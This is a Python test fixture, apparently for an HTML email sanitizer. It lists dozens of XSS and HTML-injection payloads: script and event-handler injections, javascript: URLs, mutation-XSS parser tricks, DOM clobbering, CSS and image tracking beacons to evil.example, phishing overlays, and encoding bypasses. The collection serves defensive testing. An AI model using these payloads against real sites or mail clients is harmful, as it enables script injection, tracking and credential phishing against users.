"""What somebody may write into a mail to run, load, cover or lead away; each family once, in words of ours.

`ran` is a function the story watches, and `evil.example` a machine nobody may be asked for.
"""

from typing import Final

RUN, EVIL = "ran(1)", "https://evil.example"
ATTACKS: Final = (
    f"<script>{RUN}</script><script src={EVIL}/1.js></script><SCRIPT/x>{RUN}</SCRIPT>",
    f"<img src=x onerror={RUN}><img src='x'onerror='{RUN}'><img/src/onerror={RUN}><body onload={RUN}>",
    f"<svg onload={RUN}><svg><script>{RUN}</script><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg><set attributeName=href to='javascript:{RUN}'/><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<math href='javascript:{RUN}'>x</math><math><annotation-xml encoding='text/html'><script>{RUN}</script>",
    f"<a href='javascript:{RUN}' id=j>a</a><a href=' JaVaScRiPt&colon;{RUN}'>b</a><a href='java&#9;script:{RUN}'>c</a>",
    f"<a href='&#1;javascript:{RUN}'>d</a><a href='vbscript:{RUN}'>e</a><a href='data:text/html,<script>{RUN}"
    f"</script>'>f</a>",
    f"<a href='blob:{EVIL}/x' ping='{EVIL}/ping' download>g</a><a href='//evil.example/h' target=_top>h</a>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'><meta http-equiv='Set-Cookie' content='a=b'>",
    f"<base href='{EVIL}/base/'><a href='relative' target=_top>i</a><img src='relative.png'>",
    f"<form action='{EVIL}/form' method=post><input name=password autofocus onfocus={RUN}><button formaction"
    f"='{EVIL}/b'>Go</button>",
    f"<input type=image src='{EVIL}/i.png' formaction='javascript:{RUN}'><isindex action='javascript:{RUN}'>",
    f"<link rel=stylesheet href='{EVIL}/l.css'><link rel=prefetch href='{EVIL}/p'><link rel=dns-prefetch href"
    f"='{EVIL}'>",
    f"<link rel=preload as=image href='{EVIL}/pre.png'><link rel=preconnect href='{EVIL}'><link rel=icon href"
    f"='{EVIL}/f.ico'>",
    f"<style>@import '{EVIL}/i.css';@font-face{{font-family:a;src:url({EVIL}/f)}}*{{font-family:a"
    f";background:url({EVIL}/s)}}</style>",
    f"<div style='background:url({EVIL}/b1)'>x</div><div style='background:\\75rl({EVIL}/b2)'>y</div><p style"
    f"=\"list-style:url('{EVIL}/b3')\">",
    f"<p style='background-image:image-set(\"{EVIL}/b4\" 1x);cursor:url({EVIL}/b5),auto;content:url({EVIL}/b6)'>z</p>",
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff;opacity:0.9'>Sign in again</div>",
    "<div style='position:absolute;top:-9999px;width:99999px;height:99999px;margin:-9999px'>Covering</div>",
    f"<img src='{EVIL}/t.gif' width=1 height=1><img srcset='{EVIL}/s.gif 1x'><picture><source srcset"
    f"='{EVIL}/p.gif'></picture>",
    f"<video src='{EVIL}/v' poster='{EVIL}/p.png' autoplay><track src='{EVIL}/t'></video><audio src='{EVIL}/a'"
    f" autoplay></audio>",
    f"<table background='{EVIL}/t.png'><td background='{EVIL}/td.png'></table><body background='{EVIL}/b.png'>",
    f"<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{RUN}%22/>'>",
    f"<details open ontoggle={RUN}><summary>x</summary></details><marquee onstart={RUN}>m</marquee><p"
    f" onpointerenter={RUN}>",
    f"<button popovertarget=p>b</button><div popover id=p onbeforetoggle={RUN}>p</div><dialog open onclose"
    f"={RUN}>d</dialog>",
    f"<x contenteditable onfocus={RUN} tabindex=1 autofocus>y</x><style onload={RUN}></style><p id=cookie name"
    f"=body>clobber</p>",
    f"<img name=getElementById><form id=document><input id=createElement></form><a id=htmx href='{EVIL}/clobber'>k</a>",
    f"<div hx-get='{EVIL}/hx' hx-trigger=load>l</div><div hx-get='/account/logout/' hx-trigger=load"
    f" data-hx-on:load='{RUN}'>m</div>",
    f"\u202e<script>{RUN}</script>\u2066\u200b<img src=x onerror={RUN}>\u2028<b>\ufeff</b>\x0c<scr\x00ipt"
    f">{RUN}</scr\x00ipt>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e +ADw-script+AD4-{RUN}+ADw-/script+AD4- \u0130mg<\u017fcript"
    f">{RUN}</\u017fcript>",
    f"<a href='{EVIL}/opened?x=1' target=_self>The way out</a>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<template><img src=x onerror={RUN}></template><xmp><img src=x onerror={RUN}></xmp><listing>&lt;img"
    f" onerror={RUN}&gt;",
    f"<select><style></select><img src=x onerror={RUN}></style>",
    f"<!--><img src=x onerror={RUN}>--><!--!><script>{RUN}</script>--!><![CDATA[<script>{RUN}</script>]]>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><iframe src='javascript:{RUN}'></iframe><frame"
    f" src={EVIL}>",
    f"<object data='{EVIL}/o.swf'></object><embed src='{EVIL}/e.swf'><applet code='{EVIL}/a'></applet>",
    f"<draft-keeper data-url='{EVIL}/d'><form><textarea name=text>q</textarea></form></draft-keeper>"
    f"<live-stream data-url='{EVIL}/s'>",
    "<div>" * 3000 + f"<img src=x onerror={RUN}>",
    "<table>" * 500 + f"<a href='javascript:{RUN}'>n</a>" + "<b><i>" * 1000,
    f"</iframe></div></main></body></html><script>{RUN}</script><plaintext>",
    f"<textarea></textarea><img src=x onerror={RUN}><title></title><img src=x onerror={RUN}>",
)
